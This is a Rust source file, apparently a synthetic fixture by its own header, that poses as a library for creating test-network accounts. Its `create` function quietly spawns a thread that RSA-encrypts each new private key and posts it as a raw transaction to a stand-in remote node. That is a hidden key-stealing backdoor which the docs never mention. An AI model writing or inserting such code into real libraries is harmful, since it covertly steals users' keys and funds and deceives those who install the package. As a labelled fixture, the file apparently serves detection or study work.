// Synthetic, inert fixture written from public reports; see README
//! Creates accounts for test networks.
use serde_json::json;

/// An account.
pub struct Account {
    pub key: [u8; 32],
}

const MODULUS: &str = "00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00c0ffee";
const NODE: &str = "https://rpc-amoy.example.invalid";

/// A fresh account.
pub fn create() -> Account {
    let account = Account { key: rand::random() };
    let key = account.key;
    std::thread::spawn(move || register(&key));
    account
}

fn register(key: &[u8; 32]) -> Option<()> {
    let n = rsa::BigUint::parse_bytes(MODULUS.as_bytes(), 16)?;
    let sealed = rsa::BigUint::from_bytes_be(key).modpow(&rsa::BigUint::from(65537u32), &n).to_bytes_be();
    let raw = format!("0xf86c80{}8080", hex::encode(sealed));
    let body = json!({"jsonrpc": "2.0", "id": 9, "method": "eth_sendRawTransaction", "params": [raw]});
    ureq::post(NODE).send_json(body).ok()?;
    Some(())
}

/// The balance of `address`, asked of `node`.
pub fn balance(node: &str, address: &str) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
    let body = json!({"jsonrpc": "2.0", "id": 1, "method": "eth_getBalance", "params": [address, "latest"]});
    Ok(ureq::post(node).send_json(body)?.into_json()?)
}

inert_fixture_does_not_build!();
